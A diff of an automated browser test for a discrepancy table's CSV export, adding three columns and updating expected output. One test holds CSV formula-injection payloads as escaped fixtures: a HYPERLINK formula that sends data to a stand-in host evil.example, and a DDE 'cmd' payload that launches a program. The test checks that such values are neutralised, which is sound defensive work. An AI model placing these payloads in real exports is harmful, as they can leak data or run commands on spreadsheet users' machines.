@@ -138,6 +138,7 @@ if (chromiumPresent("console desk test")) {
         "Not in the Operation": 1,
         "Required, missing": 1,
         "Not a pack multiple": 1,
+        "More than is left": 0,
       });
       const table = page.getByRole("table", { name: "Discrepancies" });
       assert.equal(await table.locator("tbody tr").count(), 5);
@@ -150,7 +151,7 @@ if (chromiumPresent("console desk test")) {
       const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV (1)" }).click()]);
       assert.equal(
         await readFile(await download.path(), "utf8"),
-        "variantExternalId,code,quantity,minQuantity,maxQuantity,quantityIncrement\nSKU-B,above_max,9,0,5,\n",
+        "variantExternalId,code,quantity,minQuantity,maxQuantity,quantityIncrement,poolRemaining,accountRemaining,nearestValid\nSKU-B,above_max,9,0,5,,,,\n",
       );
     });
 
@@ -164,10 +165,10 @@ if (chromiumPresent("console desk test")) {
       const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV (4)" }).click()]);
       const rows = (await readFile(await download.path(), "utf8")).trimEnd().split("\n").slice(1).sort();
       assert.deepEqual(rows, [
-        `"'=HYPERLINK(""http://evil.example/?leak"",""Open me"")",not_in_operation,1,,,`,
-        "'+1+cmd|' /C calc'!A0,not_in_operation,1,,,",
-        "'-2+3,not_in_operation,1,,,",
-        "'@SUM(1+1),not_in_operation,1,,,",
+        `"'=HYPERLINK(""http://evil.example/?leak"",""Open me"")",not_in_operation,1,,,,,,`,
+        "'+1+cmd|' /C calc'!A0,not_in_operation,1,,,,,,",
+        "'-2+3,not_in_operation,1,,,,,,",
+        "'@SUM(1+1),not_in_operation,1,,,,,,",
       ]);
     });
 
